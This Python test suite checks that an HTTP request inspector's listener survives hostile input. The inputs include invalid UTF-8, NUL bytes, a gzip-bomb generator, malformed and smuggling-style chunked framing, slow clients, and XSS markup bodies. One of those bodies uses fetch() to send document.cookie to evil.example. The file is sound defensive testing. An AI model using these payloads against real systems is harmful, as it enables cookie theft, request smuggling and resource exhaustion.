"""Hostile and malformed requests against the real listener (docs/security.md, issue 7).

Every request here is sent over a real socket to a :class:`Listener` on 127.0.0.1, most of
them as raw bytes so that no client library tidies them up first. The rule being checked:
whatever arrives is either captured exactly as sent or refused with a 4xx, the listener keeps
serving other clients, and nothing a sender controls can make it (or the body views) use
unbounded time or memory.
"""

from __future__ import annotations

import asyncio
import tracemalloc
import zlib
from collections.abc import AsyncIterator

import aiohttp
import pytest
from helpers import WAIT_TIMEOUT, raw_http, send_last, status_of, wait_until_async

from inspector.core.body_display import INFLATE_CAP, decode_for_display, pretty_text
from inspector.core.capture import TRUNCATED_KEEP
from inspector.core.store import CaptureStore
from inspector.net.listener import Listener

MiB = 1024 * 1024


async def in_the_body(port: int, head: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection whose request head (with ``Expect: 100-continue``) the listener has
    read: its ``100 Continue`` means the handler is now waiting for the body."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(head.replace(b"\r\n\r\n", b"\r\nExpect: 100-continue\r\n\r\n", 1))
    await writer.drain()
    interim = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), WAIT_TIMEOUT)
    assert interim.startswith(b"HTTP/1.1 100 "), interim
    return reader, writer


async def assert_still_serving(listener: Listener) -> None:
    """A well-formed request right after the hostile one is answered 200."""
    timeout = aiohttp.ClientTimeout(total=5)
    async with (
        aiohttp.ClientSession(timeout=timeout) as s,
        s.post(listener.url + "/after", data=b'{"ok":1}') as r,
    ):
        assert r.status == 200


def gzip_bomb(inflated_size: int) -> bytes:
    """A gzip stream of zeros inflating to ``inflated_size`` bytes, built without holding them."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    zeros = bytes(MiB)
    parts = [comp.compress(zeros) for _ in range(inflated_size // MiB)]
    parts.append(comp.flush())
    return b"".join(parts)


# -- invalid UTF-8 and NUL bytes ---------------------------------------------------------


async def test_hostile_invalid_utf8_in_path_is_captured(
    listener: Listener, store: CaptureStore
) -> None:
    answer = await raw_http(
        listener.port,
        b"POST /caf\xff\xfe/x?q=\xc3\x28 HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n"
        b"Connection: close\r\n\r\nhi",
    )
    assert status_of(answer) == 200
    (c,) = store.captures()
    assert (c.path, c.query) == ("/caf%FF%FE/x", "q=%C3(")
    assert any("not valid UTF-8" in note for note in c.notes)


async def test_hostile_invalid_utf8_in_path_does_not_break_listener(
    listener: Listener, store: CaptureStore
) -> None:
    answer = await raw_http(
        listener.port,
        b"GET /\xff\xfe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    )
    assert 200 <= status_of(answer) < 500
    await assert_still_serving(listener)


async def test_hostile_percent_encoded_invalid_utf8_path_kept_raw(
    listener: Listener, store: CaptureStore
) -> None:
    answer = await raw_http(
        listener.port,
        b"POST /%ff%fe%00/%zz?a=%c3%28&b=%00 HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n"
        b"Connection: close\r\n\r\n",
    )
    assert status_of(answer) == 200
    (c,) = store.captures()
    assert c.path == "/%ff%fe%00/%zz"
    assert c.query == "a=%c3%28&b=%00"


async def test_hostile_invalid_utf8_in_header_value_kept_as_latin1(
    listener: Listener, store: CaptureStore
) -> None:
    answer = await raw_http(
        listener.port,
        b"POST /h HTTP/1.1\r\nHost: x\r\nX-Bad: a\xff\xfe\x80b\r\nX-Half: \xc3\r\n"
        b"Content-Length: 2\r\nConnection: close\r\n\r\nhi",
    )
    assert status_of(answer) == 200
    (c,) = store.captures()
    assert c.header("X-Bad") == b"a\xff\xfe\x80b".decode("latin-1")
    assert c.header("X-Half") == "\xc3"
    # Latin-1 maps one byte to one character: the bytes on the wire can be recovered.
    assert (c.header("X-Bad") or "").encode("latin-1") == b"a\xff\xfe\x80b"


async def test_hostile_invalid_utf8_body_is_byte_exact_and_viewable(
    listener: Listener, store: CaptureStore
) -> None:
    body = b'{"name": "caf\xe9", "x": "\xc3\x28\xa0\xa1", "end": "\xf0\x28\x8c\x28"}'
    async with (
        aiohttp.ClientSession() as s,
        s.post(listener.url + "/u", data=body, headers={"Content-Type": "application/json"}) as r,
    ):
        assert r.status == 200
    full = store.get(store.captures()[0].id)
    assert full is not None and full.body == body
    decoded = decode_for_display(full.body_bytes, full.headers)
    assert decoded.text is None and not decoded.is_json
    text, note = pretty_text(decoded)
    assert "\ufffd" in text and "UTF-8" in note


async def test_hostile_nul_bytes_in_body_are_kept(listener: Listener, store: CaptureStore) -> None:
    body = b"\x00" * 10 + b'{"a":"\x00"}' + b"\x00"
    answer = await raw_http(
        listener.port,
        b"POST /nul HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        + f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode()
        + body,
    )
    assert status_of(answer) == 200
    full = store.get(store.captures()[0].id)
    assert full is not None and full.body == body
    decode_for_display(full.body_bytes, full.headers)  # must not raise


@pytest.mark.parametrize(
    "request_bytes",
    [
        b"POST /a\x00b HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        b"POST /n HTTP/1.1\r\nHost: x\r\nX-Nul: a\x00b\r\nContent-Length: 0\r\n"
        b"Connection: close\r\n\r\n",
        b"POST /n HTTP/1.1\r\nHost: x\r\nX-\x00: v\r\nContent-Length: 0\r\n"
        b"Connection: close\r\n\r\n",
    ],
    ids=["nul-in-path", "nul-in-header-value", "nul-in-header-name"],
)
async def test_hostile_nul_bytes_in_request_head_are_refused_cleanly(
    listener: Listener, store: CaptureStore, request_bytes: bytes
) -> None:
    # RFC 9110 section 5.5 lets a recipient reject NUL in a field value; what matters here
    # is a clean 4xx and a listener that keeps serving.
    answer = await raw_http(listener.port, request_bytes)
    assert 400 <= status_of(answer) < 500
    await assert_still_serving(listener)


# -- many and large headers --------------------------------------------------------------


async def test_hostile_200_headers_all_captured_in_order(
    listener: Listener, store: CaptureStore
) -> None:
    lines = b"".join(f"X-Many-{i:03d}: value {i}\r\n".encode() for i in range(200))
    answer = await raw_http(
        listener.port,
        b"POST /many HTTP/1.1\r\nHost: x\r\n" + lines + b"Content-Length: 0\r\n"
        b"Connection: close\r\n\r\n",
    )
    assert status_of(answer) == 200
    (c,) = store.captures()
    many = [(k, v) for k, v in c.headers if k.startswith("X-Many-")]
    assert many == [(f"X-Many-{i:03d}", f"value {i}") for i in range(200)]


async def test_hostile_16k_header_value_captured_whole(
    listener: Listener, store: CaptureStore
) -> None:
    value = ("0123456789abcdef" * 1024)[: 16 * 1024]
    async with (
        aiohttp.ClientSession() as s,
        s.post(listener.url + "/big-header", headers={"X-Sixteen": value}, data=b"x") as r,
    ):
        assert r.status == 200
    (c,) = store.captures()
    assert c.header("X-Sixteen") == value


# -- compressed bodies -------------------------------------------------------------------


async def test_hostile_gzip_bomb_stored_compressed_and_view_capped(
    listener: Listener, store: CaptureStore
) -> None:
    inflated = 160 * MiB
    wire = gzip_bomb(inflated)
    assert len(wire) < 1024 * 1024  # fits the fixture's 1 MiB body limit
    async with (
        aiohttp.ClientSession() as s,
        s.post(
            listener.url + "/bomb",
            data=wire,
            headers={"Content-Encoding": "gzip", "Content-Type": "application/json"},
        ) as r,
    ):
        assert r.status == 200
    full = store.get(store.captures()[0].id)
    assert full is not None
    assert full.body == wire and full.body_size == len(wire) and not full.truncated

    tracemalloc.start()
    try:
        decoded = decode_for_display(full.body_bytes, full.headers)
        text, _ = pretty_text(decoded)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(decoded.data) <= INFLATE_CAP
    assert "only the start" in decoded.note
    # Inflating in full would need 160 MiB; the cap keeps it to a bounded fraction.
    assert peak < 100 * MiB, f"decoding the bomb peaked at {peak / MiB:.0f} MiB"
    # Capped before display (line breaks may be added for the text widget).
    assert len(text.replace("\n", "")) <= 2 * MiB


async def test_hostile_deflate_body_with_garbage_is_shown_raw(
    listener: Listener, store: CaptureStore
) -> None:
    wire = zlib.compress(b'{"ok": true}')[:-6] + b"\xde\xad\xbe\xef"
    async with (
        aiohttp.ClientSession() as s,
        s.post(listener.url + "/def", data=wire, headers={"Content-Encoding": "deflate"}) as r,
    ):
        assert r.status == 200
    full = store.get(store.captures()[0].id)
    assert full is not None and full.body == wire
    decoded = decode_for_display(full.body_bytes, full.headers)
    # Shown raw or as far as it decodes, never an exception.
    assert decoded.data == wire or decoded.data.startswith(b'{"ok": true')


# -- malformed framing -------------------------------------------------------------------


MALFORMED_CHUNKED = pytest.mark.parametrize(
    "chunked_body",
    [
        b"zz\r\nhello\r\n0\r\n\r\n",  # chunk size is not hex
        b"2\r\nhiXX3\r\nabc\r\n0\r\n\r\n",  # chunk data longer than announced
        b"-1\r\nx\r\n0\r\n\r\n",  # negative size
        b"ffffffffffffffffffff\r\nx\r\n0\r\n\r\n",  # size overflows 64 bits
    ],
    ids=["non-hex-size", "overlong-chunk", "negative-size", "overflowing-size"],
)
CHUNKED_HEAD = (
    b"POST /chunk HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
)


@MALFORMED_CHUNKED
async def test_hostile_malformed_chunked_gets_400_and_listener_survives(
    listener: Listener, store: CaptureStore, chunked_body: bytes
) -> None:
    # Head and body in one write: the parser refuses the request before any handler runs.
    answer = await raw_http(listener.port, CHUNKED_HEAD + chunked_body)
    assert status_of(answer) == 400
    await assert_still_serving(listener)
    assert [c.path for c in store.captures(limit=0)] == ["/after"]


async def test_hostile_malformed_chunked_mid_body_is_answered(
    listener: Listener, store: CaptureStore
) -> None:
    reader, writer = await in_the_body(listener.port, CHUNKED_HEAD)
    # The bad chunk size comes in a read of its own, after the head was taken: aiohttp
    # leaves that request's body open unless the listener fails it.
    answer = await send_last(reader, writer, b"zz\r\nhello\r\n0\r\n\r\n", read_timeout=5)
    assert status_of(answer) != 0
    (capture,) = store.captures()
    assert capture.path == "/chunk"
    assert any("could not be read" in note for note in capture.notes)
    await assert_still_serving(listener)


async def test_hostile_content_length_with_chunked_is_refused(
    listener: Listener, store: CaptureStore
) -> None:
    # Request smuggling shape: both framings at once must not be guessed at.
    answer = await raw_http(
        listener.port,
        b"POST /smuggle HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
        b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n2\r\nhi\r\n0\r\n\r\n",
    )
    assert status_of(answer) == 400
    await assert_still_serving(listener)


async def test_hostile_client_hanging_up_mid_body_is_recorded(
    listener: Listener, store: CaptureStore
) -> None:
    stored = asyncio.Event()
    store.added.connect(lambda _captures: stored.set())
    _reader, writer = await in_the_body(
        listener.port, b"POST /cut HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n"
    )
    writer.write(b"only-part")
    await writer.drain()
    writer.close()
    await writer.wait_closed()
    await asyncio.wait_for(stored.wait(), 5)
    (c,) = store.captures()
    assert c.path == "/cut"
    assert any("could not be read" in n for n in c.notes)
    await assert_still_serving(listener)


# -- slow clients ------------------------------------------------------------------------


async def test_hostile_slow_clients_do_not_block_others(
    listener: Listener, store: CaptureStore
) -> None:
    # 20 clients stop part-way through their requests (half in the head, half in the body)
    # and stay there until 10 ordinary requests have been answered: each ordinary answer
    # came while all 20 were unfinished.
    head = b"POST /slow HTTP/1.1\r\nHost: x\r\nContent-Length: 12\r\nConnection: close\r\n\r\n"
    body = b'{"slow":true}'[:12]
    release = asyncio.Event()
    waiting: list[int] = []

    async def stop_in_head(i: int) -> bytes:
        reader, writer = await asyncio.open_connection("127.0.0.1", listener.port)
        writer.write(head[:25])
        await writer.drain()
        waiting.append(i)
        await release.wait()
        return await send_last(reader, writer, head[25:] + body)

    async def stop_in_body(i: int) -> bytes:
        reader, writer = await in_the_body(listener.port, head)
        writer.write(body[:5])
        await writer.drain()
        waiting.append(i)
        await release.wait()
        return await send_last(reader, writer, body[5:])

    slow = [asyncio.ensure_future(stop_in_head(i) if i % 2 else stop_in_body(i)) for i in range(20)]
    try:
        await wait_until_async(lambda: len(waiting) == 20, what="20 unfinished requests")
        timeout = aiohttp.ClientTimeout(total=WAIT_TIMEOUT)
        async with aiohttp.ClientSession(timeout=timeout) as s:
            for i in range(10):
                async with s.post(listener.url + f"/fast{i}", data=b"{}") as r:
                    assert r.status == 200
        # None of them failed (e.g. was dropped) while the others were served.
        assert not any(t.done() for t in slow)
        release.set()
        answers = await asyncio.wait_for(asyncio.gather(*slow), WAIT_TIMEOUT)
    finally:
        for t in slow:
            t.cancel()
    assert all(status_of(a) == 200 for a in answers)
    paths = [c.path for c in store.captures(limit=0)]
    assert paths.count("/slow") == 20
    assert sum(p.startswith("/fast") for p in paths) == 10


async def test_hostile_slow_chunked_body_does_not_block_others(
    listener: Listener, store: CaptureStore
) -> None:
    first_part_sent = asyncio.Event()
    release = asyncio.Event()

    async def slow_body() -> AsyncIterator[bytes]:
        yield b"part 0;"
        first_part_sent.set()
        await release.wait()
        for i in range(1, 15):
            yield f"part {i};".encode()

    timeout = aiohttp.ClientTimeout(total=WAIT_TIMEOUT)
    async with aiohttp.ClientSession(timeout=timeout) as s:
        slow = asyncio.ensure_future(s.post(listener.url + "/slow-chunked", data=slow_body()))
        try:
            await asyncio.wait_for(first_part_sent.wait(), WAIT_TIMEOUT)
            async with s.post(listener.url + "/quick", data=b"{}") as r:
                assert r.status == 200
            assert not slow.done()  # answered while the chunked body was unfinished
            release.set()
            resp = await slow
            assert resp.status == 200
            resp.release()
        finally:
            slow.cancel()
    full = store.get(store.captures(limit=1)[0].id)
    assert full is not None and full.path == "/slow-chunked"
    assert full.body == b"".join(f"part {i};".encode() for i in range(15))


# -- the body limit ----------------------------------------------------------------------

LIMIT = 4096


@pytest.fixture
async def small_listener(store: CaptureStore) -> AsyncIterator[Listener]:
    lst = Listener(store, port=0, body_limit=LIMIT)
    await lst.start()
    yield lst
    await lst.stop()


@pytest.mark.parametrize("framing", ["content-length", "chunked"])
async def test_hostile_body_exactly_at_limit_is_captured_whole(
    small_listener: Listener, store: CaptureStore, framing: str
) -> None:
    body = bytes(i % 251 for i in range(LIMIT))
    answer = await raw_http(small_listener.port, _request("/at", body, framing))
    assert status_of(answer) == 200
    full = store.get(store.captures()[0].id)
    assert full is not None
    assert not full.truncated and full.body == body and full.body_size == LIMIT


@pytest.mark.parametrize("framing", ["content-length", "chunked"])
async def test_hostile_body_one_byte_over_limit_is_413_and_truncated(
    small_listener: Listener, store: CaptureStore, framing: str
) -> None:
    body = bytes(i % 251 for i in range(LIMIT + 1))
    answer = await raw_http(small_listener.port, _request("/over", body, framing))
    assert status_of(answer) == 413
    full = store.get(store.captures()[0].id)
    assert full is not None
    assert full.truncated and full.body_size == LIMIT + 1
    assert full.response is not None and full.response.status == 413
    assert full.body_bytes == body[:TRUNCATED_KEEP]


def _request(path: str, body: bytes, framing: str) -> bytes:
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n".encode()
    if framing == "content-length":
        return head + f"Content-Length: {len(body)}\r\n\r\n".encode() + body
    # Two chunks, so the limit is crossed inside the second one.
    half = len(body) // 2
    chunks = b"".join(
        f"{len(part):x}\r\n".encode() + part + b"\r\n" for part in (body[:half], body[half:])
    )
    return head + b"Transfer-Encoding: chunked\r\n\r\n" + chunks + b"0\r\n\r\n"


# -- markup in bodies --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/html", b"<html><body onload=alert(1)><script>alert('x')</script></body></html>"),
        ("application/javascript", b"fetch('https://evil.example/'+document.cookie)"),
        ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'),
        ("application/json", b'{"html": "<img src=x onerror=alert(1)>"}'),
    ],
    ids=["html", "javascript", "svg", "json-with-markup"],
)
async def test_hostile_markup_bodies_are_stored_and_decoded_as_text(
    listener: Listener, store: CaptureStore, content_type: str, body: bytes
) -> None:
    async with (
        aiohttp.ClientSession() as s,
        s.post(listener.url + "/markup", data=body, headers={"Content-Type": content_type}) as r,
    ):
        assert r.status == 200
    full = store.get(store.captures()[0].id)
    assert full is not None and full.body == body
    decoded = decode_for_display(full.body_bytes, full.headers)
    text, _ = pretty_text(decoded)
    # Shown verbatim as text (or as the JSON string value): no markup is interpreted away.
    if decoded.is_json:
        assert decoded.json_value == {"html": "<img src=x onerror=alert(1)>"}
        assert "<img src=x onerror=alert(1)>" in text
    else:
        assert text == body.decode()
